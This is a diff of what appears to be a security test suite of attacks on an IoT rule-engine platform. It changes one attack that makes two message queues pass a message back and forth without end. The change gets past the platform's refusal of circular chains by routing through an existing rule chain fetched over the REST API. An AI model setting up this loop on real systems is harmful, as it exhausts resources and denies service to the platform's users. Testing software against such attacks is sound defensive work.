@@ -118,11 +118,13 @@ return {msg: all, metadata: metadata, msgType: msgType};
 
 @attack
 def chains_that_go_round(evil: Evil) -> None:
-    """Two queues that hand the same message to each other for as long as they are let."""
+    """Two queues that hand the same message to each other for as long as they are let: circles are refused, but for this one."""
     chain = Chain()
-    first = chain.node(("flow.TbCheckpointNode", {"queueName": "HighPriority"}))
-    second = chain.node(("flow.TbCheckpointNode", {"queueName": "Main"}))
-    chain.connect(first, "Success", second).connect(second, "Success", first)
+    first = chain.node(("flow.TbCheckpointNode", {}), queueName="HighPriority")
+    second = chain.node(("flow.TbCheckpointNode", {}), queueName="Main")
+    fixed = evil.rest.get("/api/ruleChains", pageSize=1, page=0).json()["data"][0]["id"]["id"]
+    again = chain.node(("flow.TbRuleChainInputNode", {"forwardMsgToDefaultRuleChain": True, "ruleChainId": fixed}))
+    chain.connect(first, "Success", second).connect(second, "Success", again)
     chain.save(evil.rest, root=True)
     evil.posts({"n": 1})
 
